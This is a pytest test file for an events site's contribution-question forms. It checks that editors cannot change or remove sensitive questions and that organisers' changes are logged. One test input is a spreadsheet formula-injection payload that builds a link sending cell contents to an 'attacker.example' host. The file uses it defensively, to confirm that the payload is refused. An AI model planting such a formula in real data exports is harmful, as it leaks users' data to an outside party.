"""An event's contribution questions follow the same organisers-only rules as its
registration questions (events/forms.py, one code path for both formsets): an
Editor's new question must be ticked sensitive; an Editor may not change a
question's sensitive flag, remove a sensitive one, or change what a question that
is not sensitive asks; an organiser's change is saved and written to the page's
history; a label a spreadsheet would run as a formula is refused."""

from django.contrib.auth.models import Group

import pytest

from events.factories import STANDARD_QUESTIONS, create_event
from events.models import EventPage
from tests.events import test_events_support as events_support
from tests.security.test_security_routing_settings import (
    edit_form,
    errors_of,
    make_user,
    routing_log,
    save,
)

pytestmark = pytest.mark.django_db

event_index = events_support.event_index

ASKS = "What should the action plan do"
PERSONAL = "Anything personal"


@pytest.fixture
def roundtable(event_index):
    event = create_event(
        event_index,
        title="Members' roundtable",
        slug="members-roundtable",
        questions=STANDARD_QUESTIONS,
        contributions_enabled=True,
    )
    event.contribution_fields.create(
        sort_order=0, label=ASKS, field_type="multiline", required=True
    )
    event.contribution_fields.create(
        sort_order=1, label=PERSONAL, field_type="multiline", sensitive=True
    )
    event.save_revision().publish()
    return event


@pytest.fixture
def editor(django_user_model):
    return make_user(django_user_model, "editor", "Editors")


@pytest.fixture
def organiser(django_user_model):
    user = make_user(django_user_model, "organiser", "Event organisers")
    user.groups.add(Group.objects.get(name="Editors"))
    return user


def prefix_of(data, label):
    for key, value in data.items():
        if key.startswith("contribution_fields-") and key.endswith("-label") and value == label:
            return key.rsplit("-", 1)[0]
    raise AssertionError(f"No contribution question {label!r}")


def add_question(data, label, sensitive):
    total = int(data["contribution_fields-TOTAL_FORMS"])
    prefix = f"contribution_fields-{total}"
    data.update(
        {
            f"{prefix}-label": label,
            f"{prefix}-field_type": "singleline",
            f"{prefix}-help_text": "",
            f"{prefix}-choices": "",
            f"{prefix}-default_value": "",
            f"{prefix}-ORDER": str(total + 1),
            f"{prefix}-id": "",
        }
    )
    if sensitive:
        data[f"{prefix}-sensitive"] = "on"
    data["contribution_fields-TOTAL_FORMS"] = str(total + 1)


def questions(event):
    """{label: sensitive} of the contribution questions in the latest revision."""
    latest = EventPage.objects.get(pk=event.pk).get_latest_revision_as_object()
    return {field.label: field.sensitive for field in latest.contribution_fields.all()}


def test_an_editors_unchanged_save_is_accepted(client, editor, roundtable):
    client.force_login(editor)
    response = save(client, roundtable, edit_form(client, roundtable))
    assert response.status_code == 302, errors_of(response)
    assert questions(roundtable) == {ASKS: False, PERSONAL: True}


def test_an_editor_may_add_a_contribution_question_only_as_sensitive(client, editor, roundtable):
    client.force_login(editor)
    data = edit_form(client, roundtable)
    add_question(data, "Your experience", sensitive=False)
    response = save(client, roundtable, data)
    assert response.status_code == 200
    assert "Tick “sensitive” on a new contribution question" in errors_of(response)
    assert "Your experience" not in questions(roundtable)

    data = edit_form(client, roundtable)
    add_question(data, "Your experience", sensitive=True)
    response = save(client, roundtable, data)
    assert response.status_code == 302, errors_of(response)
    assert questions(roundtable)["Your experience"] is True
    assert routing_log(roundtable) == []


def test_an_editor_cannot_untick_sensitive_on_a_contribution_question(client, editor, roundtable):
    client.force_login(editor)
    data = edit_form(client, roundtable)
    del data[f"{prefix_of(data, PERSONAL)}-sensitive"]
    response = save(client, roundtable, data, publish=True)
    assert response.status_code == 200
    assert "Only Event organisers can change whether a contribution question is sensitive" in (
        errors_of(response)
    )
    assert questions(roundtable)[PERSONAL] is True


def test_an_editor_cannot_tick_sensitive_off_by_ticking_it_on_either(client, editor, roundtable):
    # Making a question sensitive changes who sees answers already given, too.
    client.force_login(editor)
    data = edit_form(client, roundtable)
    data[f"{prefix_of(data, ASKS)}-sensitive"] = "on"
    response = save(client, roundtable, data)
    assert response.status_code == 200
    assert questions(roundtable)[ASKS] is False


def test_an_editor_cannot_remove_a_sensitive_contribution_question(client, editor, roundtable):
    client.force_login(editor)
    data = edit_form(client, roundtable)
    data[f"{prefix_of(data, PERSONAL)}-DELETE"] = "1"
    response = save(client, roundtable, data)
    assert response.status_code == 200
    assert "Only Event organisers can remove the sensitive contribution question" in errors_of(
        response
    )
    assert PERSONAL in questions(roundtable)


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("label", "Any health conditions?"),
        ("help_text", "Tell us about your health too."),
        ("field_type", "singleline"),
    ],
)
def test_an_editor_cannot_change_what_a_contribution_question_asks(
    client, editor, roundtable, part, value
):
    client.force_login(editor)
    data = edit_form(client, roundtable)
    data[f"{prefix_of(data, ASKS)}-{part}"] = value
    response = save(client, roundtable, data, publish=True)
    assert response.status_code == 200
    assert f"Only Event organisers can change what the contribution question “{ASKS}” asks" in (
        errors_of(response)
    )
    assert ASKS in questions(roundtable)
    assert "Any health conditions?" not in questions(roundtable)


def test_an_editor_may_reword_a_sensitive_contribution_question(client, editor, roundtable):
    client.force_login(editor)
    data = edit_form(client, roundtable)
    data[f"{prefix_of(data, PERSONAL)}-label"] = "Anything you would rather we kept private"
    response = save(client, roundtable, data)
    assert response.status_code == 302, errors_of(response)
    assert questions(roundtable)["Anything you would rather we kept private"] is True


def test_an_organisers_contribution_question_changes_are_saved_and_logged(
    client, organiser, roundtable
):
    client.force_login(organiser)
    data = edit_form(client, roundtable)
    data[f"{prefix_of(data, ASKS)}-label"] = "What should change"
    del data[f"{prefix_of(data, PERSONAL)}-sensitive"]
    add_question(data, "Your CLP", sensitive=False)
    response = save(client, roundtable, data)
    assert response.status_code == 302, errors_of(response)
    assert questions(roundtable) == {
        "What should change": False,
        PERSONAL: False,
        "Your CLP": False,
    }
    [entry] = routing_log(roundtable)
    assert entry.user == organiser
    changes = sorted(entry.data["changes"], key=lambda change: change["setting"])
    assert changes == [
        {
            "setting": "question_added",
            "question": "Your CLP",
            "sensitive": False,
            "form": "contribution",
        },
        {
            "setting": "question_changed",
            "question": ASKS,
            "part": "label",
            "from": ASKS,
            "to": "What should change",
            "form": "contribution",
        },
        {
            "setting": "sensitive",
            "question": PERSONAL,
            "from": True,
            "to": False,
            "form": "contribution",
        },
    ]
    assert f"contribution question “{PERSONAL}” made not sensitive" in entry.message


def test_an_organisers_removal_of_a_sensitive_contribution_question_is_logged(
    client, organiser, roundtable
):
    client.force_login(organiser)
    data = edit_form(client, roundtable)
    data[f"{prefix_of(data, PERSONAL)}-DELETE"] = "1"
    response = save(client, roundtable, data)
    assert response.status_code == 302, errors_of(response)
    assert PERSONAL not in questions(roundtable)
    [entry] = routing_log(roundtable)
    assert entry.data["changes"] == [
        {
            "setting": "question_removed",
            "question": PERSONAL,
            "sensitive": True,
            "form": "contribution",
        }
    ]


@pytest.mark.parametrize(
    ("label", "message"),
    [
        ('=HYPERLINK("http://attacker.example/?"&A2,"Open")', "treat a cell starting with ="),
        ("Email", "contribution form already asks for full name, email and consent"),
        ("Anonymous", "contribution form already asks for full name, email and consent"),
    ],
)
def test_a_contribution_question_label_a_spreadsheet_would_run_or_the_form_uses_is_refused(
    client, organiser, roundtable, label, message
):
    client.force_login(organiser)
    data = edit_form(client, roundtable)
    add_question(data, label, sensitive=True)
    response = save(client, roundtable, data)
    assert response.status_code == 200
    assert message in errors_of(response)
    assert label not in questions(roundtable)
